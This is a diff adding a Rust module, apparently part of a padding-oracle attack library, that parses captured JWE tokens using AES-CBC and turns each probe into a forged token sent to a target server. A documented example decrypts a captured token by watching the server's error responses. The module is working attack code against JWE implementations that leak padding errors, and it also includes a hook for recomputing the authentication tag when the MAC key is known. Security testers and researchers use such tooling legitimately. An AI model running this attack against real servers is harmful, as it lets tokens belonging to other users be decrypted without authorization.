@@ -0,0 +1,148 @@
+//! Attack JWE tokens encrypted with AES-CBC, such as `A128CBC-HS256`.
+//!
+//! A token in the compact serialization is five base64url parts separated by dots: the protected
+//! header, the encrypted key, the IV, the ciphertext and the authentication tag. The attack works
+//! on the IV followed by the ciphertext, and [JweOracle] puts each probe back into a token. A
+//! server which decrypts before checking the tag, or which tells the two failures apart, is a
+//! padding oracle. If it checks the tag first, recompute it in a hook, given the MAC key.
+//!
+//! # Example
+//! ```no_run
+//! use padding_oracle::jwe::{self, JweOracle, JweToken};
+//!
+//! # fn send(_: &str) -> u16 { 200 }
+//! # let captured = "";
+//! let token = JweToken::parse(captured).expect("a JWE token");
+//! let oracle = JweOracle::new(token.clone(), |token: &str| send(token) != 500);
+//!
+//! let plaintext = padding_oracle::decrypt(&token.cbc_ciphertext(), jwe::BLOCKSIZE, oracle)?;
+//! # Ok::<(), padding_oracle::Error>(())
+//! ```
+
+use alloc::string::String;
+use alloc::vec::Vec;
+
+use crate::{base64, OracleResponse, PaddingOracle};
+
+/// The blocksize of AES, the only cipher JWE uses in CBC mode.
+pub const BLOCKSIZE: usize = 16;
+
+/// A JWE token in the compact serialization.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct JweToken {
+    /// The protected header, still base64url encoded since that is what the tag authenticates.
+    pub header: String,
+
+    /// The encrypted content key, empty for direct encryption.
+    pub encrypted_key: Vec<u8>,
+
+    /// The IV.
+    pub iv: Vec<u8>,
+
+    /// The ciphertext.
+    pub ciphertext: Vec<u8>,
+
+    /// The authentication tag.
+    pub tag: Vec<u8>,
+}
+
+impl JweToken {
+    /// Parse a token, or `None` if it isn't made of five base64url parts.
+    pub fn parse(token: &str) -> Option<Self> {
+        let token = token.trim();
+        let mut parts = token.split('.');
+        let header = parts.next()?;
+        base64::decode(header, base64::URL_SAFE)?;
+
+        let mut part = || base64::decode(parts.next()?, base64::URL_SAFE);
+        let token = Self {
+            header: header.into(),
+            encrypted_key: part()?,
+            iv: part()?,
+            ciphertext: part()?,
+            tag: part()?,
+        };
+
+        parts.next().is_none().then_some(token)
+    }
+
+    /// The token in the compact serialization.
+    pub fn encode(&self) -> String {
+        let parts = [&self.encrypted_key, &self.iv, &self.ciphertext, &self.tag]
+            .map(|part| base64::encode(part, base64::URL_SAFE, false));
+
+        alloc::format!("{}.{}", self.header, parts.join("."))
+    }
+
+    /// The IV followed by the ciphertext, which is what the attack takes.
+    pub fn cbc_ciphertext(&self) -> Vec<u8> {
+        [&self.iv[..], &self.ciphertext].concat()
+    }
+
+    /// The same token, with the IV and the ciphertext taken from `cbc_ciphertext`, such as a
+    /// probe. The IV keeps its length.
+    pub fn with_cbc_ciphertext(&self, cbc_ciphertext: &[u8]) -> Self {
+        let (iv, ciphertext) = cbc_ciphertext.split_at(self.iv.len().min(cbc_ciphertext.len()));
+
+        Self {
+            iv: iv.to_vec(),
+            ciphertext: ciphertext.to_vec(),
+            ..self.clone()
+        }
+    }
+}
+
+/// An oracle sending every probe to `oracle` as a JWE token, built from a captured one.
+///
+/// The header, the encrypted key and the tag of the captured token are kept, unless the hook
+/// changes them. It is called with every token before it is encoded, for instance to recompute
+/// the tag.
+#[derive(Debug, Clone)]
+pub struct JweOracle<O, F> {
+    token: JweToken,
+    oracle: O,
+    hook: F,
+}
+
+impl<O> JweOracle<O, fn(&mut JweToken)> {
+    /// Send the probes to `oracle` in tokens built from `token`.
+    pub fn new(token: JweToken, oracle: O) -> Self {
+        Self::with_hook(token, oracle, |_| {})
+    }
+}
+
+impl<O, F> JweOracle<O, F>
+where
+    F: FnMut(&mut JweToken),
+{
+    /// Same as [JweOracle::new], calling `hook` with every token before sending it, such as to
+    /// re-sign it.
+    pub fn with_hook(token: JweToken, oracle: O, hook: F) -> Self {
+        Self {
+            token,
+            oracle,
+            hook,
+        }
+    }
+
+    /// The inner oracle.
+    pub fn into_inner(self) -> O {
+        self.oracle
+    }
+}
+
+impl<O, F, R> PaddingOracle for JweOracle<O, F>
+where
+    O: FnMut(&str) -> R,
+    R: OracleResponse,
+    F: FnMut(&mut JweToken),
+{
+    type Response = R;
+
+    fn query(&mut self, ciphertext: &[u8]) -> R {
+        let mut token = self.token.with_cbc_ciphertext(ciphertext);
+        (self.hook)(&mut token);
+
+        (self.oracle)(&token.encode())
+    }
+}